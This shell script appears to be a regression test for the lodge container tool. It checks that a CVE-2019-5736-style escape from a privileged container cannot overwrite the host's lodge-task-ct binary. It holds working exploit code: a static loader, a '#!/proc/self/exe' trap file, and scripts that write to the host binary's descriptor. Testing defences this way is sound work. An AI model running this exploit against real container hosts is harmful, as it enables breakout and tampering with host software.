#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-or-later
# Root of a privileged container against our own program: a file inside with the interpreter line "#!/proc/self/exe" makes
# the process that we sent in execute lodge-task-ct itself, with a loader of the container's own. That one takes our
# file's descriptor along and writes to it as soon as nobody runs it any more (CVE-2019-5736).
. "$(dirname "$(readlink -f "$0")")/ct_lib.sh"
command -v cc >/dev/null || { echo "1..0 # SKIP no compiler"; exit 0; }
stub_core
busybox_template

# the programs, in a folder where they can be exchanged as an upgrade does it
real=$LODGE_LIBEXEC_DIR
mkdir "$lab/libexec"
cp "$real"/lodge-task "$real"/lodge-task-ct "$lab/libexec/"
export LODGE_LIBEXEC_DIR=$lab/libexec
program=$lab/libexec/lodge-task-ct
upgrade() { cp "$real/lodge-task-ct" "$program.new" && mv "$program.new" "$program"; }
untouched() { cmp "$real/lodge-task-ct" "$program"; }

# the loader: it stands on no library, as it is executed in the place of one
cat >"$lab/loader.c" <<'C'
#include <asm/unistd.h>

static long call(long number, long a, long b, long c)
{
	long r;

	__asm__ volatile("syscall" : "=a"(r) : "a"(number), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
	return r;
}

__attribute__((used)) static void run(void)
{
	const char *argv[3]; /* set here: nobody relocates our data */
	long fd = call(__NR_open, (long)"/proc/self/exe", 0, 0);

	argv[0] = "sh";
	argv[1] = "/grab";
	argv[2] = 0;
	call(__NR_dup2, fd, 9, 0);
	call(__NR_execve, (long)"/bin/sh", (long)argv, 0);
	call(__NR_exit, 1, 0, 0);
}

__asm__(".globl _start\n_start: and $-16, %rsp\n call run\n");
C
ok "a loader" cc -O1 -fno-stack-protector -fpie -nostdlib -static-pie -Wl,--no-dynamic-linker -o "$lab/loader" "$lab/loader.c"
interpreter=$(readelf -l "$real/lodge-task-ct" | sed -n 's/.*interpreter: \(.*\)]/\1/p')
root=$lab/busybox
mkdir -p "$root$(dirname "$interpreter")"
cp "$lab/loader" "$root$interpreter"
printf '#!/proc/self/exe\n' >"$root/bin/evil"
cat >"$root/grab" <<'SH'
[ -e /proc/self/fd/9 ] || { echo "no file" >/result; exit; }
trap '' HUP
/bin/busybox rm -f /started
/bin/busybox setsid sh /write >/dev/null 2>&1 </dev/null &
until [ -e /started ]; do sleep 0.02; done # in a session of its own: it outlives this one
SH
cat >"$root/write" <<'SH'
: >/started
i=0
while [ $i -lt 100 ]; do
	if why=$( { echo hostile >>/proc/self/fd/9; } 2>&1); then
		echo "written to it" >/result
		exit
	fi
	case $why in *ead-only*) break ;; esac
	i=$((i + 1))
	sleep 0.1
done
echo "$why" >/result
SH
chmod 755 "$root/bin/evil" "$root$interpreter"
tar -C "$root" --numeric-owner --owner=0 --group=0 -czf "$LODGE_STATE_DIR/local/template/cache/busybox.tar.gz" .
new() { # new VMID: a privileged container
	printf 'hostname: g\nlock: create\nmemory: 64\nswap: 0\nunprivileged: 0\n' | put_conf "$1"
	job vzcreate "$1" ostemplate=local:vztmpl/busybox.tar.gz rootfs=local:0.1
}
result() { inside 401 /bin/cat /result; }
# What runs the program that is exchanged here is none of what made the container.
attacked() { # attacked COMMAND…: by a program that was put in place just now
	inside 401 /bin/busybox rm -f /result
	upgrade
	"$@"
	wait_for 15 result
	is "Read-only file system" "$(result | sed 's/.*: //')"
}
in_a_shell() { inside 401 /bin/busybox ln -sf evil /bin/bash && "$program" console 401 shell; :; }
by_exec() {
	python3 - "$here/ct_job.py" <<'PY'
import os, runpy, socket, subprocess, sys
ours, theirs = (s.detach() for s in socket.socketpair())
caller = os.dup(ours) # stays open until we end; the job has the other end as descriptor 3
os.dup2(os.dup(theirs), 3)
popen = subprocess.Popen
subprocess.Popen = lambda *a, **k: popen(*a, pass_fds=[3], **k)
sys.argv = [sys.argv[1], 'vzexec', '401', 'vmid=401', 'command=/bin/evil']
runpy.run_path(sys.argv[0], run_name='__main__')
PY
	:
}
by_config() { # what it asks the system inside for
	inside 401 /bin/busybox ln -sf evil /bin/networkctl
	job vzconfig 401 "set.net0=name=eth0,bridge=br0,ip=dhcp,hwaddr=BC:24:11:00:00:41"
	:
}
ip link add br0 type bridge
ip link set br0 up

ok "create" new 401
ok "start" job vzstart 401
ok "it is privileged" [ /proc/self/ns/user -ef "/proc/$(pid_of 401)/ns/user" ]
ok "a program that it executes for us" attacked by_exec
ok "our file is as it was" untouched
ok "a shell for a console" attacked in_a_shell
ok "our file is as it was" untouched
ok "a program that a change asks for" attacked by_config
ok "our file is as it was" untouched

# its init: once it has stopped nobody runs that program, but a friend of its has the file
ok "stop" job vzstop 401
mkdir "$lab/tree"
image=$(echo "$LODGE_STATE_DIR"/local/images/401/*.raw)
mount -o loop "$image" "$lab/tree"
rm "$lab/tree/sbin/init"
printf '#!/proc/self/exe\n' >"$lab/tree/sbin/init"
chmod 755 "$lab/tree/sbin/init"
rm -f "$lab/tree/result"
cat >"$lab/tree/grab" <<'SH'
/bin/busybox cp /proc/self/fdinfo/9 /fdinfo
exec 9>&-
exec /bin/busybox init
SH
umount "$lab/tree"
wait_for 5 no_loops
ok "start with an init that executes us" job vzstart 401
mnt_id=$(inside 401 /bin/cat /fdinfo | sed -n 's/^mnt_id:[ \t]*//p')
ok "it had our file" test -n "$mnt_id"
ok "by a mount that is nowhere" not grep -q "^$mnt_id " /proc/self/mountinfo
ok "stop" job vzstop 401
ok "destroy" job vzdestroy 401
ok "nothing is left" clean_behind 401
